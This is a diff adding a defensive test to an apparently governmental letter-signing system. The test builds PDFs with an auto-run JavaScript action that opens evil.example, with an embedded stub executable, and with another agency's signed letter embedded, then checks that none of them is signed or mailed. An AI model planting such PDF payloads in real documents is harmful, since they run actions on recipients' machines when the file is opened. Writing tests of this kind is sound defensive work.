@@ -252,3 +252,29 @@ def test_a_letter_of_a_number_sent_before_is_said_before_it_goes_again(agency: A
     assert plan.as_json()["warnings"][0]["code"] == "sent-before" and plan.sendable
     other = agency.send(letter("52/SNV-VP"), "52-SNV-VP.pdf")
     assert other.plan.warnings == []
+
+
+def test_our_letter_carrying_javascript_a_program_or_another_letter_is_never_signed_nor_sent(agency: Agency) -> None:
+    """Red team 66: our letter with JavaScript run on opening, with an executable embedded, or with Sở Tài chính's signed
+    letter embedded was signed with our key and mailed; intake refuses the first two from anybody, and the third is a
+    document the plan never read. Held as intake names them (`unsupported-attachment`), the embedded letter as
+    `several-documents`; nothing signed, nothing mailed."""
+    world = agency.world
+    doc = pymupdf.open(stream=letter("80/SNV-VP"), filetype="pdf")
+    js = doc.get_new_xref()
+    doc.update_object(js, "<< /S /JavaScript /JS (app.launchURL\\('http://evil.example/x', true\\);) >>")
+    doc.xref_set_key(doc.pdf_catalog(), "OpenAction", f"{js} 0 R")
+    with_js = doc.tobytes()
+    doc = pymupdf.open(stream=letter("81/SNV-VP"), filetype="pdf")
+    doc.embfile_add("huong-dan.exe", b"MZ\x90\x00" + b"\x00" * 200, filename="huong-dan.exe")
+    with_exe = doc.tobytes()
+    doc = pymupdf.open(stream=letter("82/SNV-VP"), filetype="pdf")
+    theirs = sign_pdf(letter("12/STC-NS", issuer="SỞ TÀI CHÍNH"), world.signers["stc"], world.pki)
+    doc.embfile_add("12-STC-NS.pdf", theirs, filename="12-STC-NS.pdf")
+    with_letter = doc.tobytes()
+    for number, pdf, code in (("80", with_js, "unsupported-attachment"), ("81", with_exe, "unsupported-attachment"),
+                              ("82", with_letter, "several-documents")):
+        outcome = agency.send(pdf, f"{number}-SNV-VP.pdf")
+        assert not outcome.registered and _held(outcome) == [code], (number, _held(outcome))
+        assert not agency.registered(f"{number}/SNV-VP") and not agency.smtp.carrying(f"{number}-SNV-VP.pdf")
+    assert "12-STC-NS.pdf" in outcome.plan.held[0].message
